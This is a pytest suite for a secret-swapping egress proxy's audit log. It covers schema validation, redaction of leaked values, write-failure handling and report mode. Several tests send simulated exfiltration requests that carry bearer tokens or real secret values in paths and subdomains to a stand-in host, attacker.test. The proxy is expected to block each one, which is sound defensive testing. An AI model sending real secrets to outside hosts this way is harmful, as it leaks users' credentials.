"""The audit record as users get it: records written by a real proxy (allowed, swapped, denied,
secret-attributed, reported, limits, refusals before a request could be read, inside and outside a
pod) validate against the published schema (docs/audit.schema.json), on stdout or in
``--audit-log``, and never carry a real value, even one the agent put in a path or a host name."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from hypothesis import given
from hypothesis import strategies as st

from proxy.audit import SCHEMA
from proxy.identity import POD_IDENTITY_ENV
from proxy.policy.model import Reason
from tests.conftest import GITHUB, MAIN_POLICY, OPENAI, needs_root, secret_env
from tests.support.clients import curl
from tests.support.leaks import find_leaks
from tests.support.proxyproc import ProxyProcess, free_port
from tests.support.wait import wait_for

ROOT = Path(__file__).resolve().parents[2]
SCHEMA_FILE = ROOT / "docs" / "audit.schema.json"
POD = {"namespace": "agents", "pod": "agent-7f9c", "pod_uid": "0b6f2d7e-8a4b-4a55-9d0c-3f1e6c2b9a11",
       "service_account": "coding-agent", "node": "gke-pool-1-abc"}  # fmt: skip


def validator() -> jsonschema.protocols.Validator:
    schema = json.loads(SCHEMA_FILE.read_text())
    cls = jsonschema.validators.validator_for(schema)
    cls.check_schema(schema)
    return cls(schema, format_checker=cls.FORMAT_CHECKER)


def assert_valid(records: list[dict[str, Any]]) -> None:
    v = validator()
    problems = [f"{r}: {e.message}" for r in records for e in v.iter_errors(r)]
    assert not problems, problems


def test_the_schema_matches_the_record_format() -> None:
    schema = json.loads(SCHEMA_FILE.read_text())
    assert schema["properties"]["schema"]["const"] == SCHEMA
    assert set(schema["properties"]["reason"]["enum"]) == {None, *(r.value for r in Reason)}
    assert set(POD_IDENTITY_ENV) <= set(schema["properties"])
    assert schema["additionalProperties"] is False


@needs_root
def test_records_of_a_real_proxy_validate_against_the_published_schema(
    make_proxy: Callable[..., ProxyProcess], tmp_path: Path
) -> None:
    pod_env = {env: POD[field] for field, (env, _) in POD_IDENTITY_ENV.items()}
    proxy = make_proxy(MAIN_POLICY, "--max-request-body", "1k", env={**secret_env(), **pod_env})
    bearer = f"Authorization: Bearer {OPENAI.placeholder}"
    assert curl(proxy.url, proxy.ca, "https://api.openai.com/v1/chat", "-H", bearer, "-d", "{}").status == 200
    assert curl(proxy.url, proxy.ca, "https://echo.example.com/plain").status == 200
    assert curl(proxy.url, proxy.ca, "https://echo.example.com/collect", "-H", bearer).reason == "secret_not_bound"
    assert curl(proxy.url, proxy.ca, "https://attacker.test/x", "-H", bearer).reason == "host_not_allowed"
    github = f"Authorization: Bearer {GITHUB.placeholder}"
    assert curl(proxy.url, proxy.ca, "https://echo.example.com:8443/", "-H", github).reason == "port_not_allowed"
    big = tmp_path / "big"
    big.write_bytes(b"x" * 4096)
    reply = curl(proxy.url, proxy.ca, "https://api.openai.com/v1/up", "--data-binary", f"@{big}")
    assert (reply.status, reply.reason) == (413, "limit_exceeded")
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=10) as s:
        s.sendall(b"NOT HTTP AT ALL\r\n\r\n")
        assert b"malformed_request" in s.recv(4096)
    report_policy = MAIN_POLICY.replace("spec:\n", "spec:\n  mode: report\n", 1).replace(
        "ports: [80, 443, 8443]\n", 'ports: [80, 443, 8443]\n      paths: ["/v1/*"]\n', 1
    )
    reported = make_proxy(report_policy)
    assert curl(reported.url, reported.ca, "https://echo.example.com:8443/", "-H", bearer).status in (0, 502)
    assert curl(reported.url, reported.ca, "https://api.openai.com/v2/x", "-H", bearer).status == 200

    records = proxy.audit() + reported.audit()
    assert_valid(records)
    seen = {(r["decision"], r["reason"]) for r in records}
    assert {
        ("allowed", None),
        ("denied", "secret_not_bound"),
        ("denied", "host_not_allowed"),
        ("denied", "port_not_allowed"),
        ("denied", "limit_exceeded"),
        ("denied", "malformed_request"),
        ("reported", "port_not_allowed"),
        ("reported", "path_not_allowed"),
    } <= seen
    swapped = [(r["decision"], r["secrets"], r["rule"]) for r in records if r["secrets"]]
    assert swapped == [("allowed", ["openai"], 0), ("reported", ["openai"], None)]
    attributed = {(r["reason"], r["secret"]) for r in records if r["secret"]}
    assert {
        ("secret_not_bound", "openai"),
        ("host_not_allowed", "openai"),
        ("port_not_allowed", "github"),
    } <= attributed
    unread = [r for r in records if r["reason"] == "malformed_request"]
    assert unread and all(r["host"] is None and r["method"] is None and r["path"] is None for r in unread)
    # The pod's identity in every record of the pod's sidecar; null outside a pod.
    assert all({k: r[k] for k in POD} == POD for r in proxy.audit())
    assert all(r[k] is None for r in reported.audit() for k in POD)


@needs_root
def test_a_real_value_the_agent_puts_in_a_path_or_host_never_reaches_the_audit_log(
    make_proxy: Callable[..., ProxyProcess],
) -> None:
    """The agent is refused for it (secret_value_outbound); the record of that refusal must not be
    where the value leaks. Covers the forms the outbound guard knows (here: as is, lowercased) in
    the request path and in a host name outside the allowlist."""
    proxy = make_proxy(MAIN_POLICY)
    real = OPENAI.real
    assert curl(proxy.url, proxy.ca, f"https://echo.example.com/leak/{real}/x").reason == "secret_value_outbound"
    assert curl(proxy.url, proxy.ca, f"https://echo.example.com/q/{real.lower()}").reason == "secret_value_outbound"
    # Toward a host outside the allowlist too, the value leaving is the worse of the two reasons.
    assert curl(proxy.url, proxy.ca, f"https://attacker.test/leak/{real}").reason == "secret_value_outbound"
    assert curl(proxy.url, proxy.ca, f"https://{real.lower()}.attacker.test/").reason == "secret_value_outbound"
    records = proxy.audit()
    assert len(records) == 4
    assert_valid(records)
    assert find_leaks(proxy.audit_path.read_text()) == []
    assert records[0]["path"] == "/leak/[redacted:openai]/x" and records[0]["secret"] == "openai"
    assert records[3]["host"] == "[redacted:openai].attacker.test"


@needs_root
def test_an_audit_record_that_cannot_be_written_is_counted_and_logged(
    make_proxy: Callable[..., ProxyProcess],
) -> None:
    """/dev/full refuses every write (ENOSPC): the loss is visible, in the metric the
    SandgateInternalErrors alert watches and on stderr, not silent; the proxy keeps serving."""
    proxy = make_proxy(MAIN_POLICY, "--audit-log", "/dev/full")
    assert curl(proxy.url, proxy.ca, "https://attacker.test/").reason == "host_not_allowed"
    wait_for(lambda: proxy.metric("sandgate_internal_errors_total", task="audit") >= 1)
    assert '"where": "audit"' in proxy.stderr() and "OSError" in proxy.stderr()
    assert curl(proxy.url, proxy.ca, "https://attacker.test/").reason == "host_not_allowed"


@needs_root
def test_without_audit_log_records_go_to_stdout_after_the_ready_line(tmp_path: Path) -> None:
    policy = tmp_path / "policy.yaml"
    policy.write_text(MAIN_POLICY)
    port = free_port()
    cmd = [sys.executable, "-m", "sandgate", "proxy", "--policy", str(policy), "--listen-port", str(port),
           "--metrics-port", str(free_port()), "--confdir", str(tmp_path / "conf")]  # fmt: skip
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env={**os.environ, **secret_env()})
    try:
        assert proc.stdout is not None
        assert proc.stdout.readline().decode().startswith("sandgate proxy ready")
        reply = curl(f"http://127.0.0.1:{port}", tmp_path / "conf" / "ca.crt", "https://attacker.test/")
        assert reply.reason == "host_not_allowed"
        record = json.loads(proc.stdout.readline())
    finally:
        proc.terminate()
        _, err = proc.communicate(timeout=30)
    assert_valid([record])
    assert record["host"] == "attacker.test" and record["reason"] == "host_not_allowed"
    assert b'"schema"' not in err  # diagnostics only on stderr


def test_the_doc_describes_every_field_of_the_schema() -> None:
    doc = (ROOT / "docs" / "audit.md").read_text()
    fields = {line.split("|")[1].strip().strip("`") for line in doc.splitlines() if line.startswith("| `")}
    assert fields == set(json.loads(SCHEMA_FILE.read_text())["properties"])


@pytest.mark.parametrize("field", ["method", "host", "path"], ids=str)
def test_long_request_fields_are_clipped_within_the_schema(field: str) -> None:
    from proxy.audit import AuditRecord

    kw: dict[str, Any] = {"method": "GET", "host": "a.example", "port": 443, "path": "/"}
    kw[field] = "x" * 5000
    record = json.loads(AuditRecord("denied", "malformed_request", **kw, policy="p").to_json({k: None for k in POD}))
    record["policy_sha256"] = "0" * 64
    assert_valid([record])
    assert record[field].endswith("...")


@needs_root
@pytest.mark.parametrize(
    ("url", "reason"),
    [("https://attacker.test/collect", "host_not_allowed"), ("https://echo.example.com:8443/", "port_not_allowed")],
    ids=["host", "port"],
)
def test_report_mode_attributes_a_placeholder_toward_a_destination_outside_the_allowlist(
    make_proxy: Callable[..., ProxyProcess], url: str, reason: str
) -> None:
    """What enforce mode would refuse and count per secret, report mode counts the same way: a team
    trying a policy in report mode sees the exfiltration attempts it would catch."""
    proxy = make_proxy(MAIN_POLICY.replace("spec:\n", "spec:\n  mode: report\n", 1))
    curl(proxy.url, proxy.ca, url, "-H", f"Authorization: Bearer {OPENAI.placeholder}")
    [record] = proxy.audit()
    assert (record["decision"], record["reason"], record["secret"]) == ("reported", reason, "openai")
    assert proxy.metric("sandgate_secret_blocked_total", secret="openai", reason=reason) == 1


@needs_root
@pytest.mark.parametrize(
    ("url", "reason"),
    [("http://attacker.test/collect", "host_not_allowed"), ("http://echo.example.com:8080/", "port_not_allowed")],
    ids=["host", "port"],
)
def test_a_placeholder_toward_a_destination_outside_the_allowlist_is_attributed_without_a_connect(
    make_proxy: Callable[..., ProxyProcess], url: str, reason: str
) -> None:
    """Transparent mode (a pod's default) and plain-HTTP requests are decided on the request, not
    on a CONNECT: the refusal names the placeholder's secret all the same."""
    proxy = make_proxy(MAIN_POLICY)
    reply = curl(proxy.url, None, url, "-H", f"Authorization: Bearer {OPENAI.placeholder}")
    assert reply.reason == reason
    [record] = proxy.audit()
    assert (record["decision"], record["reason"], record["secret"]) == ("denied", reason, "openai")
    assert proxy.metric("sandgate_secret_blocked_total", secret="openai", reason=reason) == 1


_TEXT = st.one_of(st.none(), st.text(max_size=300), st.text(st.characters(codec="utf-8"), max_size=20).map(
    lambda t: t.encode("utf-8").decode("ascii", "surrogateescape")))  # fmt: skip


@given(method=_TEXT, host=_TEXT, path=_TEXT, detail=_TEXT, secrets=st.lists(st.text(max_size=10), max_size=3),
       pod=st.dictionaries(st.sampled_from(sorted(POD)), _TEXT))  # fmt: skip
def test_a_record_is_one_ascii_line_whatever_the_agent_sent(
    method: str | None, host: str | None, path: str | None, detail: str | None, secrets: list[str], pod: dict[str, Any]
) -> None:
    """F10 for every string: the line is ASCII, has no line break, and reads back as the fields
    that went in (clipped), the pod's identity last, as json.dumps would have written them."""
    from proxy.audit import AuditRecord

    record = AuditRecord(
        "denied", "malformed_request", method, host, 443, path, 3, secrets, None, detail, "p", "0" * 64
    )
    line = record.to_json(pod)
    assert line.isascii() and "\n" not in line and "\r" not in line
    back = json.loads(line)
    clip = lambda s: s if s is None or len(s) <= 256 else s[:256] + "..."
    assert {k: back[k] for k in ("method", "host", "path", "detail", "secrets", "port", "rule")} == {
        "method": clip(method), "host": clip(host), "path": clip(path), "detail": detail, "secrets": secrets,
        "port": 443, "rule": 3,
    }  # fmt: skip
    assert list(back)[len(back) - len(pod) :] == list(pod)
    assert {k: back[k] for k in pod} == {k: clip(v) for k, v in pod.items()}


def test_records_after_a_reload_name_the_policy_and_file_then_in_force() -> None:
    """The log encodes a record's policy and pod members once per policy: a reload (a new policy
    name, a new file digest, or either alone) must show in the very next record, every time."""
    import io

    from proxy.audit import AuditLog, AuditRecord

    out = io.StringIO()
    log = AuditLog(out, POD, policy_sha256="a" * 64)
    seen = []
    for policy, sha in [("p1", "a" * 64), ("p1", "a" * 64), ("p2", "a" * 64), ("p2", "b" * 64), ("p1", None)]:
        log.policy_sha256 = sha
        log.write(
            AuditRecord("allowed", None, "GET", "api.openai.com", 443, "/v1/models", 0, ["openai"], policy=policy)
        )
        seen.append((policy, sha))
    records = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [(r["policy"], r["policy_sha256"]) for r in records] == seen
    assert all({k: r[k] for k in POD} == POD for r in records)
    assert_valid([r for r in records if r["policy_sha256"] is not None])
